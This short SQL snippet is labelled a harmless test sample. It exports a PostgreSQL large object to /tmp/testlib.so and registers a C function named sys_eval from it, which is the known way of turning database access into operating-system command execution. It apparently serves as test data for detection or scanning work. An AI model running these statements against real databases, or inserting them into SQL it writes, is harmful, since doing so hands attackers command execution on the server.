-- harmless test sample: PostgreSQL large object exported to /tmp and loaded as a C function
SELECT lo_export(16385, '/tmp/testlib.so');
CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/testlib.so', 'sys_eval' LANGUAGE C STRICT;
